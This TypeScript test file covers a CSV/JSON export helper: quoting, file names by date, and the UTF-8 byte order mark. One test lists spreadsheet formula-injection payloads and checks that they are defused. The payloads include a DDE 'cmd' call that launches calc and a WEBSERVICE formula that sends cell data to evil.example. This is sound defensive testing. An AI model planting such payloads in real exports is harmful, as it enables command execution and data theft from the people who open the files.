import { CSV_BOM, exportBlob, exportFileName, toCsv } from './export-file';

it('quotes every cell, doubles quotes and keeps commas and line breaks inside their cell', () => {
  const csv = toCsv(
    [
      { header: 'Name', value: (row: { name: string; note: string | null }) => row.name },
      { header: 'Note', value: (row) => row.note },
    ],
    [
      { name: 'Riya "RK" Kapoor', note: 'Hello, world\nbye' },
      { name: 'Sam', note: null },
    ],
  );
  expect(csv).toBe('"Name","Note"\r\n"Riya ""RK"" Kapoor","Hello, world\nbye"\r\n"Sam",""\r\n');
});

it('defuses every cell a spreadsheet would run as a formula (OWASP), numbers with a sign too', () => {
  const payloads = [
    '=HYPERLINK("x")',
    "-2+3+cmd|' /C calc'!A0",
    '+1+WEBSERVICE("http://evil.example/?"&A1)',
    '@cmd',
    '\t=1+1',
    '+91 98765 43210',
  ];
  const csv = toCsv([{ header: 'V', value: (row: string) => row }], [...payloads, 'Riya']);
  expect(csv.split('\r\n').slice(1, -1)).toEqual([
    '"\'=HYPERLINK(""x"")"',
    "\"'-2+3+cmd|' /C calc'!A0\"",
    '"\'+1+WEBSERVICE(""http://evil.example/?""&A1)"',
    '"\'@cmd"',
    '"\'\t=1+1"',
    '"\'+91 98765 43210"',
    '"Riya"',
  ]);
});

it("names the file by prefix and the club's day (19:00 UTC is the next day in India)", () => {
  expect(exportFileName('contacts', 'json', new Date('2026-11-23T18:00:00Z'))).toBe('contacts-2026-11-23.json');
  expect(exportFileName('contacts', 'csv', new Date('2026-11-23T19:00:00Z'))).toBe('contacts-2026-11-24.csv');
});

const bytesOf = (blob: Blob) =>
  new Promise<number[]>((resolve) => {
    const reader = new FileReader();
    reader.onload = () => resolve([...new Uint8Array(reader.result as ArrayBuffer)]);
    reader.readAsArrayBuffer(blob);
  });

it('writes a CSV as UTF-8 with a byte order mark (Excel then keeps accents), JSON without one', async () => {
  const csv = toCsv([{ header: 'Name', value: (row: string) => row }], ['José']);
  const file = exportBlob(csv, 'csv');
  expect(file.type).toBe('text/csv;charset=utf-8');
  const bytes = await bytesOf(file);
  expect(bytes.slice(0, 3)).toEqual([0xef, 0xbb, 0xbf]);
  expect(Buffer.from(bytes.slice(3)).toString('utf8')).toBe('"Name"\r\n"José"\r\n');
  expect(CSV_BOM).toBe('\uFEFF');

  const json = await bytesOf(exportBlob('{"name":"José"}', 'json'));
  expect(Buffer.from(json).toString('utf8')).toBe('{"name":"José"}');
});
